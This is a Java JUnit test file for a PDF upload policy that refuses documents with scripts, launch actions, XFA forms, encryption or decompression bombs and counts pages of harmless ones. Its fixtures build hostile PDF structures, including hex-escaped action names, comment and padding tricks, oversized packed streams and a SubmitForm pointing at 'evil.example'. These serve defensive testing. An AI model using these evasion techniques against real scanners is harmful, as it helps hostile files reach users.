package org.cifal.workshops.application.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.cifal.workshops.application.surroundings.Files2023;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PdfPolicyTest {

    private static final String SCRIPT = "1 0 << /S /JavaScript /JS (app.alert) >>";

    @TempDir
    Path folder;

    private final CountingPages counting = new CountingPages();

    @Test
    void an_ordinary_pdf_passes_and_its_pages_are_counted() {
        assertThatCode(() -> judge(Files2023.pdf(3))).doesNotThrowAnyException();
        assertThat(counting.count(DocumentKind.PDF, file(Files2023.pdf(3)))).contains(3);
        assertThat(counting.count(DocumentKind.PDF, file(Files2023.pdf(1)))).contains(1);
    }

    @Test
    void a_script_or_a_program_is_refused_wherever_it_is_kept() {
        byte[] script = Files2023.pdf(document -> {
            document.addPage(new PDPage());
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('x')"));
        });
        refused("has a script", script);
        byte[] launch = Files2023.pdf(document -> {
            document.addPage(new PDPage());
            document.getDocumentCatalog().setOpenAction(new PDActionLaunch());
        });
        refused("has a script", launch);
        refused("has a script", withPackedObject("1 0 << /S /JavaScript /JS (app.alert) >>"));
        refused("has a script", plain("5 0 obj << /Type /EmbeddedFile >> stream\nx\nendstream endobj"));
    }

    @Test
    void a_disguised_name_is_refused() {
        refused("disguises", plain("5 0 obj << /S /J#61vaScript /JS (x) >> endobj"));
        refused("disguises", withPackedObject("1 0 << /#53 /Launch >>"));
    }

    @Test
    void neither_a_comment_nor_much_space_hides_a_script() {
        refused("has a script", plain("5 0 obj << /S % a style\n/JavaScript /JS (x) >> endobj"));
        refused("has a script", plain("5 0 obj << /S \0\0 \r\n" + " ".repeat(20) + "/JavaScript /JS (x) >> endobj"));
        refused("has a script", plain("5 0 obj << /S%" + "x".repeat(300) + "\n/JavaScript /JS (x) >> endobj"));
        refused("has a script", plain("5 0 obj << /S" + "%\n ".repeat(300) + "/JavaScript /JS (x) >> endobj"));
        refused("disguises", plain("5 0 obj << /S" + " ".repeat(1_100) + "/JavaScript /JS (x) >> endobj"));
        refused("disguises", plain("5 0 obj << /S %" + "x".repeat(1_100) + "\n/Launch >> endobj"));
        refused("disguises", plain("(/JavaScript is) ".repeat(1_002)));
        refused("has a script", plain("5 0 obj << /Names << /JavaScript %c\n 7 0 R >> >> endobj"));
        refused("encrypted", plain("trailer << /Encrypt %x\n 7 0 R >>"));
    }

    @Test
    void a_scanned_picture_is_no_script_whatever_bytes_it_has() {
        for (String chance :
                List.of("/S%", "/S \0%", "/Type%", "/S" + " ".repeat(60), "/S/J", "/Encrypt7", "/Launchpad")) {
            byte[] scan = plain("5 0 obj << /Filter /DCTDecode /Length 900 >> stream\n" + chance + random(800)
                    + "\nendstream endobj");
            assertThatCode(() -> judge(scan)).as(chance).doesNotThrowAnyException();
        }
    }

    @Test
    void what_a_forgiving_reader_still_unpacks_of_a_damaged_stream_is_looked_at() {
        Deflater deflater = new Deflater();
        deflater.setInput("1 0 << /S /JavaScript /JS (app.alert) >>".getBytes(StandardCharsets.ISO_8859_1));
        byte[] packed = new byte[200];
        int whole = deflater.deflate(packed, 0, packed.length, Deflater.SYNC_FLUSH);
        deflater.end();
        // A block of a kind there is not.
        Arrays.fill(packed, whole, packed.length, (byte) 0xff);

        refused("has a script", packedAs("/Filter /FlateDecode", packed));
    }

    @Test
    void objects_that_are_packed_twice_are_refused() {
        byte[] packed = deflated("1 0 << >>".getBytes(StandardCharsets.ISO_8859_1));
        refused("nobody uses", packedAs("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", packed));
        refused("nobody uses", packedAs("/Filter /LZWDecode", packed));
    }

    @Test
    void many_streams_of_objects_are_refused_for_what_they_are_together() {
        byte[] packed = deflated(new byte[7 * 1024 * 1024]);
        String stream = "5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + packed.length
                + " >>\nstream\n" + new String(packed, StandardCharsets.ISO_8859_1) + "\nendstream endobj\n";
        assertThatCode(() -> judge(plain(stream.repeat(4)))).doesNotThrowAnyException();
        refused("unpacks to far more", plain(stream.repeat(5)));
    }

    @Test
    void words_about_scripts_are_no_scripts() {
        byte[] vitae = plain(
                "5 0 obj << /Length 40 >> stream\nBT (HTML/JavaScript, Launch of a hotline) Tj ET\nendstream endobj"
                        + "\n6 0 obj << /BaseFont /Times#20New#20Roman >> endobj");
        assertThatCode(() -> judge(vitae)).doesNotThrowAnyException();
    }

    @Test
    void an_encrypted_pdf_is_refused() {
        refused("encrypted", Files2023.pdf(document -> {
            document.addPage(new PDPage());
            protect(document);
        }));
    }

    @Test
    void packed_objects_that_unpack_to_far_more_are_refused() {
        refused("unpacks to far more", withPackedObject(" ".repeat(9 * 1024 * 1024)));
    }

    @ParameterizedTest
    @ValueSource(strings = {">>         stream\n", ">>\0\f\tstream\n", ">>\nstream\r", ">>stream \r\n"})
    void packed_objects_are_found_however_their_stream_begins(String beginning) {
        refused("has a script", packed("/Type /ObjStm /Filter /FlateDecode ", beginning));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/Filter /FlateDecode /Type /ObjStm % so\n ",
                "/Filter /FlateDecode /Type % so\n /ObjStm ",
                "/Filter /FlateDecode /Type /ObjStm /Title (obj) ",
                "/Filter /LZWDecode % 5 0 obj <<\n /Type /ObjStm /Filter /FlateDecode ",
                "/Filter /FlateDecode /Filter /LZWDecode /Type /ObjStm ",
                "/Filter [/FlateDecode /FlateDecode] /Type /ObjStm ",
                "/Filter /FlateDecode /F#46ilter /LZWDecode /Type /ObjStm ",
                "/Filter /FlateDecodes /Type /ObjStm ",
                "/Filter 7 0 R /Type /ObjStm "
            })
    void packed_objects_of_which_readers_could_think_otherwise_are_refused(String dictionary) {
        refused("nobody uses", packed(dictionary, ">>\nstream\n"));
        refused("nobody uses", packed("/Filter /FlateDecode /Type /ObjStm ", ">> % so\nstream\n"));
    }

    @Test
    void packed_objects_with_a_dictionary_longer_than_any_are_refused() {
        refused("nobody uses", packed("/Filter /FlateDecode /Type /ObjStm" + " ".repeat(3_000), ">>stream\n"));
        refused("nobody uses", packed("/Filter /FlateDecode" + " ".repeat(3_000) + "/Type /ObjStm", ">>stream\n"));
    }

    @Test
    void packed_objects_are_known_by_what_they_are_and_not_by_what_is_said_of_them() {
        byte[] packed = deflated(SCRIPT.getBytes(StandardCharsets.ISO_8859_1));
        refused("has a script", streamed("/N 1 /First 4 /Filter /FlateDecode ", ">>stream\n", packed));
        refused("has a script", streamed("/Type % so\n /X /Filter /FlateDecode ", ">> % so\nstream", packed));
        packed[0] = 'x';
        packed[1] = 'x';
        refused("has a script", streamed("/N 1 /First 4 /Filter /FlateDecode ", ">>stream\n", packed));
        refused("has a script", streamed("/Type /ObjStm /Filter /FlateDecode ", ">>stream\n", packed));
    }

    @Test
    void more_streams_than_any_paper_has_are_refused() {
        refused("more than 20000 streams", plain("5 0 obj <<>>stream\nendstream\n".repeat(20_001)));
        assertThatCode(() -> judge(plain("5 0 obj <<>>stream\nendstream\n".repeat(20_000))))
                .doesNotThrowAnyException();
    }

    @Test
    void a_drawing_that_begins_with_numbers_is_no_packed_objects() {
        byte[] drawing = deflated("1 0 0 1 72 720 cm\n".repeat(600_000).getBytes(StandardCharsets.ISO_8859_1));
        assertThatCode(() -> judge(streamed("/Filter /FlateDecode ", ">>stream\n", drawing)))
                .doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/S /Rendition /JS (x)",
                "/S % so\n/SubmitForm /F (https://evil.example/)",
                "/S/ImportData /F (a.fdf)",
                "/S /RichMediaExecute /TA 5 0 R",
                "/Type /Annot /Subtype /RichMedia",
                "/AcroForm << /XFA 9 0 R >>",
                "/AcroForm << /XFA[(template) 9 0 R] >>",
                "/AcroForm << /XFA % so\n[ 9 0 R] >>"
            })
    void what_does_something_without_saying_script_is_refused(String object) {
        refused("has a script", plain("5 0 obj << " + object + " >> endobj"));
        refused("has a script", withPackedObject("1 0 << " + object + " >>"));
    }

    @Test
    void a_name_of_its_own_object_is_the_name_of_an_action() {
        refused("has a script", plain("5 0 obj /JavaScript endobj 6 0 obj << /S 5 0 R /JS (x) >> endobj"));
    }

    @Test
    void what_disguises_a_form_is_refused() {
        refused("disguises", plain("5 0 obj << /AcroForm << /#58FA 9 0 R >> >> endobj"));
        refused("disguises", plain("5 0 obj << /AcroForm << /XFA %" + "x".repeat(1_100) + "\n 9 0 R >> >> endobj"));
        refused("disguises", plain("5 0 obj << /#53 /#52endition /JS (x) >> endobj"));
    }

    @Test
    void scanned_papers_are_taken_and_counted_whatever_bytes_they_have() {
        List<String> chance = List.of(
                "stream\n",
                "stream\r\n",
                ">>stream\nx\u009c",
                "<<",
                "obj",
                "5 0 obj <<",
                "/XFA7",
                "/XFA<",
                "/#53x",
                "(",
                "%");
        Random random = new Random(2023);
        for (int paper = 0; paper < 200; paper++) {
            byte[] scan = scanned(random, chance);
            assertThatCode(() -> judge(scan)).as("paper %d", paper).doesNotThrowAnyException();
            assertThat(counting.count(DocumentKind.PDF, file(scan)))
                    .as("paper %d", paper)
                    .contains(1);
        }
    }

    @Test
    void papers_with_comments_other_line_ends_or_later_changes_are_taken_and_counted() throws IOException {
        String written = """
            %PDF-1.4
            % written by hand (and <<not>> by a program: no stream
            1 0 obj % the catalogue
            << /Type /Catalog /Pages 2 0 R >>
            endobj
            2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
            3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >> endobj
            4 0 obj << /Length 44 % about
            >> % forty
            stream
            BT /F1 12 Tf (The stream
            of a << river) Tj ET
            endstream
            endobj
            trailer << /Root 1 0 R /Size 5 >>
            %%EOF
            """;
        for (String lineEnd : List.of("\n", "\r\n", "\r")) {
            byte[] pdf = written.replace("\n", lineEnd).getBytes(StandardCharsets.US_ASCII);
            assertThatCode(() -> judge(pdf)).doesNotThrowAnyException();
            assertThat(counting.count(DocumentKind.PDF, file(pdf))).contains(1);
        }
        byte[] changed = changed(Files2023.pdf(3));
        assertThatCode(() -> judge(changed)).doesNotThrowAnyException();
        assertThat(counting.count(DocumentKind.PDF, file(changed))).contains(3);
    }

    @Test
    void a_damaged_paper_is_repaired_and_counted() {
        String pdf = new String(Files2023.pdf(3), StandardCharsets.ISO_8859_1);
        byte[] damaged = pdf.replaceFirst("startxref\\s+\\d+", "startxref\n7").getBytes(StandardCharsets.ISO_8859_1);
        assertThatCode(() -> judge(damaged)).doesNotThrowAnyException();
        assertThat(counting.count(DocumentKind.PDF, file(damaged))).contains(3);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ">>stream\n",
                ">>         stream\n",
                ">> % so\nstream\n",
                ">>\0stream\n",
                ">>stream\r",
                ">>stream    \n",
                ">>another-word\n"
            })
    void no_table_of_objects_is_unpacked_to_more_than_memory_holds(String beginning) {
        String flate = "/W [1 4 1] /Filter           /FlateDecode ";
        assertThat(pages(table(flate, beginning, 0))).contains(1);
        assertThat(pages(table(flate, beginning, 7_000_000))).isEmpty();
    }

    @Test
    void a_table_of_more_objects_than_any_paper_has_is_not_read() {
        assertThat(pages(table("/W [1 4 1] /Filter /FlateDecode ", ">>stream\n", 240_000)))
                .contains(1);
        assertThat(pages(table("/W [1 4 1] /Filter /FlateDecode ", ">>stream\n", 260_000)))
                .isEmpty();
    }

    @Test
    void a_pdf_nobody_can_parse_is_for_a_person() {
        assertThat(counting.count(DocumentKind.PDF, file(Files2023.pdf()))).isEmpty();
        assertThat(counting.count(DocumentKind.PDF, file(plain("nothing at all"))))
                .isEmpty();
    }

    private void refused(String reason, byte[] pdf) {
        assertThatThrownBy(() -> judge(pdf)).isInstanceOf(DocumentRefused.class).hasMessageContaining(reason);
    }

    private void judge(byte[] pdf) throws IOException {
        PdfPolicy.requireHarmless(file(pdf));
    }

    private Path file(byte[] content) {
        try {
            return Files.write(Files.createTempFile(folder, "document", ".pdf"), content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private Optional<Integer> pages(byte[] pdf) {
        return counting.count(DocumentKind.PDF, file(pdf));
    }

    /** A scanned page, among whose bytes are such as mean something elsewhere. */
    private static byte[] scanned(Random random, List<String> chance) {
        byte[] picture = new byte[50_000];
        random.nextBytes(picture);
        for (int times = 0; times < 50; times++) {
            byte[] word = chance.get(random.nextInt(chance.size())).getBytes(StandardCharsets.ISO_8859_1);
            System.arraycopy(word, 0, picture, random.nextInt(picture.length - word.length), word.length);
        }
        return Files2023.pdf(document -> {
            PDPage page = new PDPage();
            document.addPage(page);
            COSStream scan = document.getDocument().createCOSStream();
            scan.setItem(COSName.FILTER, random.nextBoolean() ? COSName.DCT_DECODE : COSName.CCITTFAX_DECODE);
            try (OutputStream out = scan.createRawOutputStream()) {
                out.write(picture);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            page.getCOSObject().setItem(COSName.CONTENTS, scan);
        });
    }

    private static byte[] changed(byte[] pdf) throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf);
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.getDocumentCatalog().setLanguage("to");
            document.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
            document.saveIncremental(out);
            return out.toByteArray();
        }
    }

    /**
     * A page that is found by a packed table of objects alone, as nothing else says where it is.
     *
     * @param dictionary of the table
     * @param beginning of its stream
     * @param free entries after the six that are needed
     */
    private static byte[] table(String dictionary, String beginning, int free) {
        String objects = "<</Type/Catalog/Pages 2 0 R>><</Type/Pages/Kids[3 0 R]/Count 1>><</Type/Page/Parent 2 0 R>>";
        String places = "1 0 2 29 3 64 ";
        String head = "%PDF-1.5\n";
        String page = "5 0 obj << /N 3 /First %d /Length %d >> stream\n%s%s\nendstream endobj\n"
                .formatted(places.length(), places.length() + objects.length(), places, objects);
        ByteBuffer entries = ByteBuffer.allocate(6 * (6 + free)).put(new byte[6]);
        for (byte index = 0; index < 3; index++) {
            entries.put((byte) 2).putInt(5).put(index);
        }
        entries.put((byte) 1).putInt(head.length() + page.length()).put((byte) 0);
        entries.put((byte) 1).putInt(head.length()).put((byte) 0);
        byte[] packed = deflated(entries.array());
        return (head
                        + page
                        + "4 0 obj << /Type /XRef /Root 1 0 R /Size %d %s/Length %d %s"
                                .formatted(6 + free, dictionary, packed.length, beginning)
                        + new String(packed, StandardCharsets.ISO_8859_1)
                        + "\nendstream endobj\nstartxref\n%d\n%%%%EOF\n".formatted(head.length() + page.length()))
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] plain(String objects) {
        return ("%PDF-1.7\n" + objects + "\ntrailer << /Root 1 0 R >>\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String random(int length) {
        return new Random(7)
                .ints(length, ' ', '~')
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    private static byte[] withPackedObject(String object) {
        return packedAs("/Filter /FlateDecode", deflated(object.getBytes(StandardCharsets.ISO_8859_1)));
    }

    private static byte[] packedAs(String filter, byte[] packed) {
        return plain("5 0 obj << /Type /ObjStm /N 1 /First 4 " + filter + " /Length " + packed.length + " >>\nstream\n"
                + new String(packed, StandardCharsets.ISO_8859_1) + "\nendstream endobj");
    }

    private static byte[] packed(String dictionary, String beginning) {
        return streamed(
                "/N 1 /First 4 " + dictionary, beginning, deflated(SCRIPT.getBytes(StandardCharsets.ISO_8859_1)));
    }

    private static byte[] streamed(String dictionary, String beginning, byte[] content) {
        return plain("5 0 obj << /Length " + content.length + " " + dictionary + beginning
                + new String(content, StandardCharsets.ISO_8859_1) + "\nendstream endobj");
    }

    private static byte[] deflated(byte[] content) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(packed)) {
            out.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    private static void protect(PDDocument document) {
        try {
            document.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
